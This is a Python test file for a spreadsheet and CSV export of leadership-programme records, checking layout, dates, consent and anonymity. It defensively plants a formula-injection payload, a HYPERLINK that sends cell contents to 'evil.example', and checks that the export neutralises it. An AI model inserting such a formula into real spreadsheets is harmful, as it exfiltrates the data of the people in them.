"""The export: one sheet per table, dates as dates, labels for people, nothing that runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from bot.cli.export import csv_text
from bot.core.tables import Table, to_csv
from bot.reporting.export.sheets import NOT_YET_HELD
from bot.reporting.export.workbook import build_workbook, export_tables, write_workbook
from db.engine import unit_of_work
from db.enums import (
    ApplicationStatus,
    AttendanceStatus,
    EnrolmentStatus,
    Level,
    OrganisationType,
    OutcomeKind,
    QuestionType,
    Readiness,
    RsvpStatus,
    ScreeningResult,
    SessionKind,
)
from db.models import (
    ActionLearningGroup,
    AdvertisingRound,
    Application,
    AssessmentResult,
    CoachingSession,
    Cohort,
    Enrolment,
    EvaluationAnswer,
    EvaluationResponse,
    Invitation,
    Outcome,
    Person,
    Programme,
    ProgrammeSession,
)
from tests.fixtures.bot import COORDINATOR, NOW, PARTICIPANT
from tests.support.evaluations import Q, make_form
from tests.support.statements import statements

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
SHEETS = [
    "Participants",
    "Applications",
    "Sessions and attendance",
    "Coaching",
    "Evaluation responses",
    "Commitment follow-ups",
    "Assessments",
    "Outcomes",
]


def seed(session: Session, *, extra_participants: int = 0) -> None:
    """A cohort with two participants (one working somewhere named like a formula), one on the
    waiting list, two sessions (one past, one in British Summer Time, still to come), a coaching
    session, two applications (one with diversity consent), an assessment and an outcome; and a
    second cohort with one participant of its own."""
    programme = Programme(name="Aspiring Directors", coaching_allowance=4, length_months=12)
    cohort = Cohort(programme=programme, name="2017", capacity=15, start_date=date(2017, 2, 1))
    red = ActionLearningGroup(cohort=cohort, name="Red")
    round_one = AdvertisingRound(
        programme=programme, name="Round 1", opens_on=date(2016, 11, 1), closes_on=date(2016, 12, 1)
    )
    session.add(Person(slack_user_id=COORDINATOR, name="Chris Coordinator"))
    pat = Person(
        slack_user_id=PARTICIPANT,
        name="Pat Participant",
        email="pat@example.nhs.uk",
        job_title="Deputy director of workforce",
        organisation=EVIL,
        organisation_type=OrganisationType.MENTAL_HEALTH,
        region="Yorkshire & Humber",
    )
    sam = Person(name="Sam Smith", email="sam@example.nhs.uk", organisation="Leeds CCG")
    waiting = Person(name="Wendy Waiting")
    consented = Application(
        programme=programme,
        round=round_one,
        person=pat,
        status=ApplicationStatus.ACCEPTED,
        job_title="Deputy director of workforce",
        organisation=EVIL,
        organisation_type=OrganisationType.MENTAL_HEALTH,
        region="Yorkshire & Humber",
        diversity_consent=True,
        gender="Woman",
        ethnicity="Mixed or multiple ethnic groups",
        screening_result=ScreeningResult.MEETS_CRITERIA,
        submitted_at=datetime(2016, 11, 20, 23, 30, tzinfo=UTC),
    )
    withheld = Application(
        programme=programme,
        round=round_one,
        person=sam,
        status=ApplicationStatus.SCREENED_OUT,
        job_title="Head of commissioning",
        organisation="Leeds CCG",
        organisation_type=OrganisationType.COMMISSIONING,
        screening_result=ScreeningResult.DOES_NOT_MEET_CRITERIA,
        submitted_at=datetime(2016, 11, 21, 9, 0, tzinfo=UTC),
    )
    pat_place = Enrolment(
        person=pat, cohort=cohort, group=red, enrolled_at=NOW, application=consented
    )
    sam_place = Enrolment(person=sam, cohort=cohort, enrolled_at=NOW, coaching_allowance=6)
    wendy_place = Enrolment(person=waiting, cohort=cohort, status=EnrolmentStatus.WAITING)
    workshop = ProgrammeSession(
        cohort=cohort,
        kind=SessionKind.WORKSHOP,
        title="Launch workshop",
        starts_at=datetime(2017, 1, 20, 9, 0, tzinfo=UTC),
        ends_at=datetime(2017, 1, 20, 17, 0, tzinfo=UTC),
    )
    summer_set = ProgrammeSession(
        cohort=cohort,
        kind=SessionKind.ACTION_LEARNING_SET,
        title="Red set",
        compulsory=False,
        starts_at=datetime(2017, 6, 6, 9, 0, tzinfo=UTC),
        ends_at=datetime(2017, 6, 6, 12, 0, tzinfo=UTC),
    )
    session.add_all(
        [
            withheld,
            Invitation(
                session=workshop,
                enrolment=pat_place,
                rsvp=RsvpStatus.ATTENDING,
                attendance=AttendanceStatus.PRESENT,
            ),
            Invitation(
                session=workshop,
                enrolment=sam_place,
                rsvp=RsvpStatus.NOT_ATTENDING,
                rsvp_reason="Board meeting",
                attendance=AttendanceStatus.EXCUSED,
            ),
            Invitation(session=summer_set, enrolment=pat_place),
            CoachingSession(
                enrolment=pat_place,
                held_on=date(2017, 1, 25),
                coach_name="Alex Coach",
                logged_by=COORDINATOR,
            ),
            AssessmentResult(
                enrolment=pat_place,
                assessed_on=date(2018, 1, 10),
                panel="Chief executive; HR director",
                readiness=Readiness.READY_NOW,
                performance=Level.HIGH,
                potential=Level.MEDIUM,
                development_areas=["Influencing", "Board-level presence"],
                feedback_given=True,
                recorded_by=COORDINATOR,
            ),
            Outcome(
                person=pat,
                enrolment=pat_place,
                kind=OutcomeKind.INTERIM_DIRECTOR,
                role_title="Interim director of workforce",
                organisation="Leeds Teaching Hospitals",
                started_on=date(2018, 3, 1),
                reported_by=PARTICIPANT,
                confirmed_by=COORDINATOR,
                confirmed_at=datetime(2018, 3, 5, 14, 30, tzinfo=UTC),
            ),
            wendy_place,
        ]
    )
    anonymous = make_form(
        session,
        key="export_test_anonymous",
        title="Workshop evaluation",
        anonymous=True,
        questions=[Q("best", QuestionType.FREE_TEXT, text="What was best?")],
    )
    named = make_form(
        session,
        key="export_test_named",
        title="Coaching evaluation",
        attached_to="coaching",
        questions=[Q("useful", QuestionType.FREE_TEXT, text="What was useful?")],
    )
    session.add_all(
        [
            # Five: anonymous responses are only shown for a group of at least five.
            *(
                EvaluationResponse(
                    form=anonymous,
                    cohort=cohort,
                    session=workshop,
                    submitted_on=date(2017, 1, 21),
                    answers=[EvaluationAnswer(question=anonymous.questions[0], value_text=text)],
                )
                for text in ("=1+1", "The panel", "Meeting peers", "The venue", "Lunch")
            ),
            EvaluationResponse(
                form=named,
                cohort=cohort,
                enrolment=sam_place,
                submitted_on=date(2017, 1, 30),
                submitted_at=datetime(2017, 1, 30, 12, 0, tzinfo=UTC),
                answers=[EvaluationAnswer(question=named.questions[0], value_text="Time to think")],
            ),
        ]
    )
    other = Cohort(programme=programme, name="2018", capacity=15, start_date=date(2018, 2, 1))
    session.add(Enrolment(person=Person(name="Olly Other"), cohort=other, enrolled_at=NOW))
    for index in range(extra_participants):
        person = Person(name=f"Extra {index}", organisation=f"Trust {index}")
        place = Enrolment(person=person, cohort=cohort, enrolled_at=NOW)
        session.add_all(
            [
                Invitation(session=workshop, enrolment=place),
                CoachingSession(enrolment=place, held_on=date(2017, 1, 26), logged_by=COORDINATOR),
                Outcome(person=person, kind=OutcomeKind.SECONDMENT, reported_by=COORDINATOR),
            ]
        )
    session.flush()


@pytest.fixture
def seeded(db: sessionmaker[Session]) -> sessionmaker[Session]:
    with unit_of_work(db) as session:
        seed(session)
    return db


def opened(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def records(sheet: Any) -> list[dict[str, Any]]:
    """The sheet's rows as dicts keyed by the header."""
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def workbook_of(db: sessionmaker[Session], cohort_id: int | None = None) -> Any:
    with unit_of_work(db) as session:
        return opened(build_workbook(session, NOW, cohort_id=cohort_id))


def test_every_sheet_has_a_bold_frozen_filterable_header(seeded: sessionmaker[Session]) -> None:
    book = workbook_of(seeded)

    assert book.sheetnames == SHEETS
    participants = book["Participants"]
    assert [cell.value for cell in participants[1]][:4] == [
        "Name",
        "Email",
        "Job title",
        "Organisation",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        # An empty sheet's filter takes in one blank row under its header (the writer needs a row).
        last_row = max(sheet.max_row, 2)
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(sheet.max_column)}{last_row}"
    assert participants.auto_filter.ref == "A1:N5"
    assert participants.column_dimensions["A"].width >= len("Pat Participant")


def test_dates_are_date_cells_and_times_are_in_the_programmes_time_zone(
    seeded: sessionmaker[Session],
) -> None:
    book = workbook_of(seeded)

    pat = records(book["Participants"])[0]
    assert pat["Name"] == "Pat Participant"
    assert pat["Enrolled on"] == datetime(2017, 2, 1)  # openpyxl reads every date as a datetime
    assert book["Participants"]["K2"].number_format == "dd/mm/yyyy"
    assert pat["Coaching deadline"] == datetime(2018, 2, 1)
    sessions = book["Sessions and attendance"]
    starts = [row["Starts"] for row in records(sessions)]
    # 09:00 UTC is 09:00 in London in January and 10:00 in June (British Summer Time).
    assert starts == [datetime(2017, 1, 20, 9, 0)] * 2 + [datetime(2017, 6, 6, 10, 0)]
    assert sessions["E2"].number_format == "dd/mm/yyyy hh:mm"
    application = records(book["Applications"])[0]
    # Submitted 23:30 UTC on 20 November, which is still the 20th in London (GMT).
    assert application["Submitted on"] == datetime(2016, 11, 20)


def test_a_formula_in_someones_organisation_arrives_as_inert_text(
    seeded: sessionmaker[Session],
) -> None:
    book = workbook_of(seeded)

    for sheet in ("Participants", "Applications"):
        cell = book[sheet][f"{_column(book[sheet], 'Organisation')}2"]
        assert cell.value == "'" + EVIL
        assert cell.data_type == "s"
    with unit_of_work(seeded) as session:
        (participants, *_) = export_tables(session, NOW)
    exported = list(csv.reader(io.StringIO(to_csv(participants))))
    assert exported[1][3] == "'" + EVIL


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("+44 113 000", "'+44 113 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        # A control character Excel cannot hold is dropped first, so the formula under it is caught.
        ("\x01=1+1", "'=1+1"),
        ("Plain text", "Plain text"),
    ],
)
def test_no_cell_or_header_can_start_a_formula(typed: str, kept: str) -> None:
    table = Table("Typed", (typed, "Count"), [(typed, -3)])

    sheet = opened(write_workbook([table])).worksheets[0]

    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.value, cell.data_type) == (kept, "s")
    assert sheet["B2"].value == -3  # numbers stay numbers
    # The command line's CSV files.
    exported = list(csv.reader(io.StringIO(csv_text(table))))
    assert exported[1][1] == "-3"
    assert exported[0][0].startswith("'") == kept.startswith("'")
    assert exported[1][0].startswith("'") == kept.startswith("'")


def test_gender_and_ethnicity_appear_only_with_consent(seeded: sessionmaker[Session]) -> None:
    applications = records(workbook_of(seeded)["Applications"])

    assert [(a["Applicant"], a["Gender"], a["Ethnicity"]) for a in applications] == [
        ("Pat Participant", "Woman", "Mixed or multiple ethnic groups"),
        ("Sam Smith", None, None),
    ]


def test_values_read_as_people_say_them(seeded: sessionmaker[Session]) -> None:
    book = workbook_of(seeded)

    participants = records(book["Participants"])
    assert [
        (p["Name"], p["Cohort"], p["Status"], p["Action learning group"]) for p in participants
    ] == [
        ("Pat Participant", "2017", "Enrolled", "Red"),
        ("Sam Smith", "2017", "Enrolled", None),
        ("Wendy Waiting", "2017", "Waiting list", None),
        ("Olly Other", "2018", "Enrolled", None),
    ]
    assert participants[0]["Organisation type"] == "Mental health"
    assert [(p["Coaching allowance"], p["Coaching sessions used"]) for p in participants[:2]] == [
        (4, 1),
        (6, 0),
    ]
    assert [
        (s["Participant"], s["Kind"], s["Compulsory"], s["RSVP"], s["Attendance"], s["Reason"])
        for s in records(book["Sessions and attendance"])
    ] == [
        ("Pat Participant", "Workshop", "Yes", "Attending", "Present", None),
        ("Sam Smith", "Workshop", "Yes", "Not attending", "Excused", "Board meeting"),
        ("Pat Participant", "Action learning set", "No", "No reply", NOT_YET_HELD, None),
    ]
    assert records(book["Applications"])[1]["Status"] == "Screened out"
    assert records(book["Applications"])[1]["Screening"] == "Does not meet criteria"
    assert records(book["Coaching"]) == [
        {
            "Participant": "Pat Participant",
            "Programme": "Aspiring Directors",
            "Cohort": "2017",
            "Held on": datetime(2017, 1, 25),
            "Coach": "Alex Coach",
            "Logged by": "Chris Coordinator",
        }
    ]
    (assessment,) = records(book["Assessments"])
    assert (assessment["Readiness"], assessment["Performance"], assessment["Potential"]) == (
        "Ready now",
        "High",
        "Medium",
    )
    assert assessment["Development areas"] == "Influencing; Board-level presence"
    assert assessment["Feedback given"] == "Yes"
    (outcome,) = records(book["Outcomes"])
    assert outcome["Outcome"] == "Interim director role"
    assert outcome["Confirmed by"] == "Chris Coordinator"
    assert outcome["Confirmed at"] == datetime(2018, 3, 5, 14, 30)


def test_an_anonymous_evaluation_response_carries_no_name(seeded: sessionmaker[Session]) -> None:
    sheet = workbook_of(seeded)["Evaluation responses"]

    rows = records(sheet)
    anonymous = [row for row in rows if row["Form"] == "Workshop evaluation"]
    assert len(anonymous) == 5
    assert {row["Participant"] for row in anonymous} == {None}
    assert "'=1+1" in {row["export_test_anonymous: What was best?"] for row in anonymous}
    (named,) = (row for row in rows if row["Form"] == "Coaching evaluation")
    assert named["Participant"] == "Sam Smith"
    everything = [value for row in sheet.iter_rows(values_only=True) for value in row]
    assert "Pat Participant" not in everything


def test_one_cohorts_export_leaves_the_others_out(seeded: sessionmaker[Session]) -> None:
    with unit_of_work(seeded) as session:
        other = session.scalars(select(Cohort.id).where(Cohort.name == "2018")).one()
    book = workbook_of(seeded, cohort_id=other)

    assert [p["Name"] for p in records(book["Participants"])] == ["Olly Other"]
    assert records(book["Sessions and attendance"]) == []
    assert records(book["Coaching"]) == [] and records(book["Outcomes"]) == []
    assert records(book["Evaluation responses"]) == []
    # Applications belong to the programme, which the other cohort shares.
    assert len(records(book["Applications"])) == 2


def test_the_number_of_queries_does_not_grow_with_the_number_of_participants(
    db: sessionmaker[Session],
) -> None:
    def statement_count(extra: int) -> int:
        with unit_of_work(db) as session:
            seed(session, extra_participants=extra)
        with statements(db.kw["bind"]) as counted, unit_of_work(db) as session:
            export_tables(session, NOW)
        with unit_of_work(db) as session:
            for table in reversed(Programme.metadata.sorted_tables):
                session.execute(table.delete())
        return len(counted)

    assert statement_count(0) == statement_count(25)


def test_error_codes_stay_text_and_control_characters_are_dropped() -> None:
    table = Table(
        "Odd: names/that [Excel] refuses and far too long for a sheet",
        ("Text", "When"),
        [("#N/A", datetime(2017, 6, 6, 9, 0, tzinfo=UTC)), ("bell\x07 ringing", None)],
    )

    book = opened(write_workbook([table, table]))

    first, second = book.worksheets
    assert len(first.title) <= 31 and not set("[]:*?/\\") & set(first.title)
    assert second.title != first.title
    assert first["A2"].value == "#N/A" and first["A2"].data_type == "s"
    assert first["A3"].value == "bell ringing"
    # An aware time is shown in London time (BST in June).
    assert first["B2"].value == datetime(2017, 6, 6, 10, 0)


def test_an_empty_table_still_has_its_header_and_filter() -> None:
    book = opened(write_workbook([Table("Nothing yet", ("Name", "When"), [])]))

    sheet = book["Nothing yet"]
    assert [cell.value for cell in sheet[1]] == ["Name", "When"]
    # The filter takes in one blank row: the writer takes its header from the rows.
    assert sheet.auto_filter.ref == "A1:B2" and sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 and all(cell.font.bold for cell in sheet[1])


def _column(sheet: Any, header: str) -> str:
    for cell in sheet[1]:
        if cell.value == header:
            return str(cell.column_letter)
    raise AssertionError(f"no column {header}")


def test_alike_headers_keep_their_own_columns_and_short_rows_are_padded() -> None:
    # The writer takes each row keyed by its header: two alike must not fold into one column.
    table = Table("Alike", ("Name", "Name", "When"), [("Pat", "Sam", date(2017, 6, 5)), ("Olly",)])

    sheet = opened(write_workbook([table])).worksheets[0]

    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Name", "Name (2)", "When"],
        ["Pat", "Sam", datetime(2017, 6, 5)],
        ["Olly", None, None],
    ]
    assert sheet["C2"].number_format == "dd/mm/yyyy"


def test_a_sheet_cannot_take_the_name_the_writer_keeps_for_every_sheet() -> None:
    # The writer reads options keyed "general" as meant for every sheet.
    tables = [Table("general", ("Name",), [("Pat",)]), Table("Other", ("Name",), [("Sam",)])]

    book = opened(write_workbook(tables))

    assert book.sheetnames == ["general (2)", "Other"]
